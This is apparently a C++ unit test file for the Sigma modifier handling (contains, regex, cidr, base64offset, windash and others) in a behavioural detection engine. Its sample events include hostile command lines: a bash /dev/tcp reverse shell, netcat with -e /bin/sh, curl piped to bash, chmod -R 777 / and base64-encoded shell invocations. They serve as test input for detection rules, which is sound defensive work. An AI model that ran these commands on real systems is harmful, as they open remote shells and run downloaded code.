// Value modifiers: contains, startswith, endswith, all, re, cidr, cased,
// windash, base64, base64offset, utf16/wide, exists, neq, lt/lte/gt/gte, fieldref.
#include "modifiers.hpp"
#include "sigma_test_util.hpp"

using namespace sigma_test;

namespace {
SigmaEvent net(std::string_view dst_ip, std::string_view port = "4444") {
    return event(Category::NetworkConnection, {{FieldId::Image, "/usr/bin/nc"},
                                               {FieldId::DestinationIp, dst_ip},
                                               {FieldId::DestinationPort, port},
                                               {FieldId::Initiated, "true"}});
}
}  // namespace

TEST_CASE("behavior_sigma_modifier: contains") {
    auto d = detector_for("    sel:\n        CommandLine|contains: '/dev/tcp/'\n    condition: sel\n");
    CHECK(hits(d, process("/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")));
    CHECK(hits(d, process("/bin/bash", "BASH -I >& /DEV/TCP/10.0.0.1/4444")));
    CHECK_FALSE(hits(d, process("/bin/bash", "bash -i >& /dev/udp/10.0.0.1/4444")));
}

TEST_CASE("behavior_sigma_modifier: startswith and endswith") {
    auto d = detector_for(
        "    sel:\n        Image|endswith: '/curl'\n        CommandLine|startswith: 'curl -s'\n    condition: sel\n");
    CHECK(hits(d, process("/usr/bin/curl", "curl -s http://x")));
    CHECK_FALSE(hits(d, process("/usr/bin/curl", "/usr/bin/curl -s http://x")));  // not at the start
    CHECK_FALSE(hits(d, process("/usr/bin/curlx", "curl -s http://x")));         // not at the end
}

TEST_CASE("behavior_sigma_modifier: a list is OR, all turns it into AND") {
    auto any = detector_for("    sel:\n        CommandLine|contains:\n            - ' -e '\n            - ' -c '\n"
                            "    condition: sel\n");
    CHECK(hits(any, process("/usr/bin/nc", "nc -e /bin/sh 1.2.3.4 80")));
    CHECK(hits(any, process("/usr/bin/nc", "nc -c sh 1.2.3.4 80")));
    CHECK_FALSE(hits(any, process("/usr/bin/nc", "nc -l 80")));

    auto all = detector_for("    sel:\n        CommandLine|contains|all:\n            - ' -e '\n            - '/bin/sh'\n"
                            "    condition: sel\n");
    CHECK(hits(all, process("/usr/bin/nc", "nc -e /bin/sh 1.2.3.4 80")));
    CHECK_FALSE(hits(all, process("/usr/bin/nc", "nc -e /bin/bash 1.2.3.4 80")));
}

TEST_CASE("behavior_sigma_modifier: re is case-sensitive by default; (?i) and re|i ignore case") {
    auto d = detector_for("    sel:\n        CommandLine|re: '\\s-O\\s'\n    condition: sel\n");
    CHECK(hits(d, process("/usr/bin/wget", "wget -O /tmp/x http://a")));
    CHECK_FALSE(hits(d, process("/usr/bin/wget", "wget -o /tmp/x http://a")));

    auto inline_i = detector_for(
        "    sel:\n        TargetFilename|re: '(?i)/lib/python3\\.([5-9]|[0-9]{2})/site-packages/'\n    condition: sel\n",
        "file_event");
    CHECK(hits(inline_i, event(Category::FileEvent, {{FieldId::TargetFilename, "/usr/LIB/Python3.11/Site-Packages/x.pth"}})));
    CHECK_FALSE(hits(inline_i, event(Category::FileEvent, {{FieldId::TargetFilename, "/usr/lib/python3.4/site-packages/x"}})));

    auto sub_i = detector_for("    sel:\n        CommandLine|re|i: '^CURL .*\\|\\s*(ba)?sh$'\n    condition: sel\n");
    CHECK(hits(sub_i, process("/usr/bin/curl", "curl http://x | bash")));
    CHECK_FALSE(hits(sub_i, process("/usr/bin/curl", "curl http://x | bash -x")));

    // Regexes search (unanchored) and support (?:...), \s, {n,}.
    auto long_line = detector_for("    sel:\n        CommandLine|re: '(?:a){5,}'\n    condition: sel\n");
    CHECK(hits(long_line, process("/bin/x", "x aaaaaa y")));
    CHECK_FALSE(hits(long_line, process("/bin/x", "x aaaa y")));
}

TEST_CASE("behavior_sigma_modifier: re sub-modifiers m and s") {
    auto m = detector_for("    sel:\n        CommandLine|re|m: '^second$'\n    condition: sel\n");
    CHECK(hits(m, process("/bin/x", "first\nsecond\nthird")));
    auto no_m = detector_for("    sel:\n        CommandLine|re: '^second$'\n    condition: sel\n");
    CHECK_FALSE(hits(no_m, process("/bin/x", "first\nsecond\nthird")));
    auto s = detector_for("    sel:\n        CommandLine|re|s: 'first.second'\n    condition: sel\n");
    CHECK(hits(s, process("/bin/x", "first\nsecond")));
    auto no_s = detector_for("    sel:\n        CommandLine|re: 'first.second'\n    condition: sel\n");
    CHECK_FALSE(hits(no_s, process("/bin/x", "first\nsecond")));
}

TEST_CASE("behavior_sigma_modifier: cidr with IPv4 and IPv6") {
    auto d = detector_for(
        "    sel:\n        DestinationIp|cidr:\n            - '10.0.0.0/8'\n            - '192.168.1.0/24'\n"
        "            - '::1/128'\n            - 'fc00::/7'\n            - 'fe80::/10'\n            - '203.0.113.7'\n"
        "    condition: sel\n",
        "network_connection");
    CHECK(hits(d, net("10.1.2.3")));
    CHECK(hits(d, net("192.168.1.200")));
    CHECK_FALSE(hits(d, net("192.168.2.1")));
    CHECK_FALSE(hits(d, net("11.0.0.1")));
    CHECK(hits(d, net("::1")));
    CHECK_FALSE(hits(d, net("::2")));
    CHECK(hits(d, net("fd12:3456::1")));
    CHECK(hits(d, net("FE80::1")));
    CHECK_FALSE(hits(d, net("2001:db8::1")));
    CHECK(hits(d, net("203.0.113.7")));      // a bare address is a /32
    CHECK_FALSE(hits(d, net("203.0.113.8")));
    CHECK(hits(d, net("::ffff:10.9.9.9")));  // IPv4-mapped IPv6 is its IPv4 address
    CHECK_FALSE(hits(d, net("not-an-ip")));

    CHECK(load_error("    sel:\n        DestinationIp|cidr: '10.0.0.0/33'\n    condition: sel\n", "network_connection")
              .find("10.0.0.0/33") != std::string::npos);
    CHECK(load_error("    sel:\n        DestinationIp|cidr: 'ten/8'\n    condition: sel\n", "network_connection")
              .find("invalid cidr network 'ten/8'") != std::string::npos);
}

TEST_CASE("behavior_sigma_modifier: cased") {
    auto d = detector_for("    sel:\n        CommandLine|cased|contains: ' -R '\n    condition: sel\n");
    CHECK(hits(d, process("/bin/chmod", "chmod -R 777 /")));
    CHECK_FALSE(hits(d, process("/bin/chmod", "chmod -r 777 /")));
}

TEST_CASE("behavior_sigma_modifier: windash") {
    auto d = detector_for("    sel:\n        CommandLine|windash|contains: ' -exec '\n    condition: sel\n");
    CHECK(hits(d, process("/usr/bin/find", "find . -exec sh {} ;")));
    CHECK(hits(d, process("/usr/bin/find", "find . /exec sh {} ;")));
    CHECK(hits(d, process("/usr/bin/find", "find . \xE2\x80\x93" "exec sh {} ;")));  // en dash
    CHECK(hits(d, process("/usr/bin/find", "FIND . -EXEC sh")));
    CHECK_FALSE(hits(d, process("/usr/bin/find", "find . +exec sh")));
}

TEST_CASE("behavior_sigma_modifier: base64 and base64offset") {
    using vigil::behavior::sigma::base64_encode;
    using vigil::behavior::sigma::base64_offsets;
    CHECK(base64_encode("curl http") == "Y3VybCBodHRw");
    CHECK(base64_encode("a") == "YQ==");
    CHECK(base64_offsets("http") == std::vector<std::string>{"aHR0c", "h0dH", "odHRw"});
    CHECK(base64_offsets("/bin/bash") == std::vector<std::string>{"L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"});

    auto b64 = detector_for("    sel:\n        CommandLine|base64|contains: 'curl http'\n    condition: sel\n");
    CHECK(hits(b64, process("/bin/sh", "echo Y3VybCBodHRw | base64 -d")));
    CHECK_FALSE(hits(b64, process("/bin/sh", "echo curl http")));

    auto off = detector_for("    sel:\n        CommandLine|base64offset|contains: '/bin/bash'\n    condition: sel\n");
    // "x/bin/bash -i" and "xy/bin/bash -i" put the value at shifts 1 and 2.
    CHECK(hits(off, process("/bin/sh", "echo eC9iaW4vYmFzaCAtaQ== | base64 -d | sh")));
    CHECK(hits(off, process("/bin/sh", "echo eHkvYmluL2Jhc2ggLWk= | base64 -d | sh")));
    CHECK(hits(off, process("/bin/sh", "echo L2Jpbi9iYXNoIC1p | base64 -d | sh")));
    CHECK_FALSE(hits(off, process("/bin/sh", "echo L2Jpbi9zaCAtaQ== | base64 -d | sh")));  // /bin/sh -i
}

TEST_CASE("behavior_sigma_modifier: utf16 encoders feed base64") {
    auto d = detector_for("    sel:\n        CommandLine|wide|base64offset|contains: 'cmd'\n    condition: sel\n");
    CHECK(hits(d, process("/bin/x", "x YwBtAGQA")));
    CHECK(vigil::behavior::sigma::utf16_encode("cmd", vigil::behavior::sigma::Utf16Form::Be) == std::string("\0c\0m\0d", 6));
    CHECK(vigil::behavior::sigma::utf16_encode("a", vigil::behavior::sigma::Utf16Form::Bom) == std::string("\xFF\xFE" "a\0", 4));
    CHECK(vigil::behavior::sigma::utf16_encode("\xF0\x9F\x98\x80", vigil::behavior::sigma::Utf16Form::Le) ==
          std::string("\x3D\xD8\x00\xDE", 4));  // U+1F600 as a surrogate pair
}

TEST_CASE("behavior_sigma_modifier: exists, neq and null") {
    auto exists = detector_for("    sel:\n        ParentCommandLine|exists: true\n    condition: sel\n");
    auto with_parent = process("/bin/ls", "ls");
    with_parent.set(FieldId::ParentCommandLine, "bash");
    CHECK(hits(exists, with_parent));
    CHECK_FALSE(hits(exists, process("/bin/ls", "ls")));
    auto missing = detector_for("    sel:\n        ParentCommandLine|exists: false\n    condition: sel\n");
    CHECK(hits(missing, process("/bin/ls", "ls")));

    auto neq = detector_for("    sel:\n        Image|endswith: '/sh'\n        User|neq: root\n    condition: sel\n");
    CHECK(hits(neq, process("/bin/sh", "sh")));  // user alice
    auto as_root = process("/bin/sh", "sh");
    as_root.set(FieldId::User, "root");
    CHECK_FALSE(hits(neq, as_root));

    auto null = detector_for("    sel:\n        Image: '/bin/ls'\n    empty:\n        ParentCommandLine: null\n"
                             "    condition: sel and empty\n");
    CHECK(hits(null, process("/bin/ls", "ls")));
    CHECK_FALSE(hits(null, with_parent));
}

TEST_CASE("behavior_sigma_modifier: numeric comparisons") {
    auto d = detector_for("    sel:\n        DestinationPort|lt: 1024\n        Initiated: 'true'\n    condition: sel\n",
                          "network_connection");
    CHECK(hits(d, net("1.2.3.4", "80")));
    CHECK_FALSE(hits(d, net("1.2.3.4", "1024")));
    auto gte = detector_for("    sel:\n        DestinationPort|gte: 1024\n    condition: sel\n", "network_connection");
    CHECK(hits(gte, net("1.2.3.4", "1024")));
    CHECK_FALSE(hits(gte, net("1.2.3.4", "22")));
    auto gt = detector_for("    sel:\n        DestinationPort|gt: 1024\n    condition: sel\n", "network_connection");
    CHECK_FALSE(hits(gt, net("1.2.3.4", "1024")));
    auto lte = detector_for("    sel:\n        DestinationPort|lte: 22\n    condition: sel\n", "network_connection");
    CHECK(hits(lte, net("1.2.3.4", "22")));
    CHECK(load_error("    sel:\n        DestinationPort|gt: many\n    condition: sel\n", "network_connection")
              .find("not a number") != std::string::npos);
}

TEST_CASE("behavior_sigma_modifier: fieldref") {
    auto d = detector_for("    sel:\n        CommandLine|fieldref: ParentCommandLine\n    condition: sel\n");
    auto same = process("/bin/sh", "sh -c x");
    same.set(FieldId::ParentCommandLine, "SH -C X");
    CHECK(hits(d, same));
    same.set(FieldId::ParentCommandLine, "bash");
    CHECK_FALSE(hits(d, same));
    auto starts = detector_for("    sel:\n        CommandLine|fieldref|startswith: Image\n    condition: sel\n");
    CHECK(hits(starts, process("/bin/sh", "/bin/sh -c x")));
    CHECK_FALSE(hits(starts, process("/bin/sh", "sh -c x")));
}

TEST_CASE("behavior_sigma_modifier: bad modifiers are reported by name") {
    CHECK(load_error("    sel:\n        Image|containz: x\n    condition: sel\n").find("unknown modifier 'containz'") !=
          std::string::npos);
    CHECK(load_error("    sel:\n        Image|hour: 3\n    condition: sel\n").find("time modifier 'hour'") !=
          std::string::npos);
    CHECK(load_error("    sel:\n        Image|expand: '%x%'\n    condition: sel\n").find("expand") != std::string::npos);
    CHECK(load_error("    sel:\n        Image|re|contains: x\n    condition: sel\n").find("conflicting") !=
          std::string::npos);
    CHECK(load_error("    sel:\n        Image|re: '(unclosed'\n    condition: sel\n").find("invalid regular expression") !=
          std::string::npos);
    CHECK(load_error("    sel:\n        Image|base64: 'a*b'\n    condition: sel\n").find("without wildcards") !=
          std::string::npos);
}

TEST_CASE("behavior_sigma_modifier: a pathological regex is bounded, not a hang") {
    // Catastrophic backtracking on a non-matching subject: PCRE2's match limit
    // ends it and the value simply does not match.
    auto d = detector_for("    sel:\n        CommandLine|re: '^(a+)+$'\n    condition: sel\n");
    CHECK_FALSE(hits(d, process("/bin/x", std::string(5000, 'a') + "!")));
    CHECK(hits(d, process("/bin/x", std::string(50, 'a'))));
}

TEST_CASE("behavior_sigma_modifier: windash on invalid UTF-8 is a load error, not a crash") {
    auto err = load_error("    sel:\n        CommandLine|windash: 'a\xFF-b'\n    condition: sel\n");
    MESSAGE(err);
    CHECK_FALSE(err.empty());
    CHECK(err.find("internal error") == std::string::npos);
}
